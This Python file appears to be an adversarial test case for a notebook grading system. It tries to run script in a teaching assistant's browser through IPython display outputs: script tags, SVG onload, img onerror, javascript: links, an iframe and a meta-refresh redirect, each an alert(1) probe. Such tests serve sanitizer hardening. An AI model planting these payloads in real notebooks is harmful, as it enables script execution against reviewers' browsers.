"""Attack: HTML, JavaScript, SVG, LaTeX, widgets and vendor types as outputs.
Wants: a script in the TA's browser.
Honest mark: 22
"""

# %% own
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display


class Rich:
    def _repr_html_(self):
        return "<script>alert(1)</script>"

    def _repr_javascript_(self):
        return "alert(1)"

    def _repr_svg_(self):
        return "<svg onload=alert(1)>"

    def _repr_mimebundle_(self, **k):
        return {
            "text/html": "<img src=x onerror=alert(1)>",
            "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
            "text/markdown": "[x](javascript:alert(1))",
            "application/json": {},
            "text/plain": "<b>plain</b>",
        }


display(
    HTML("<script>alert(1)</script>"),
    Javascript("alert(1)"),
    Latex(r"\href{javascript:alert(1)}{x}"),
    Markdown("<iframe src=//x>"),
)
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))
display(
    {"text/html": "<meta http-equiv=refresh content='0;url=//x'>", "application/javascript": "alert(1)"},
    raw=True,
)
print("<script>alert(1)</script>")
Rich()
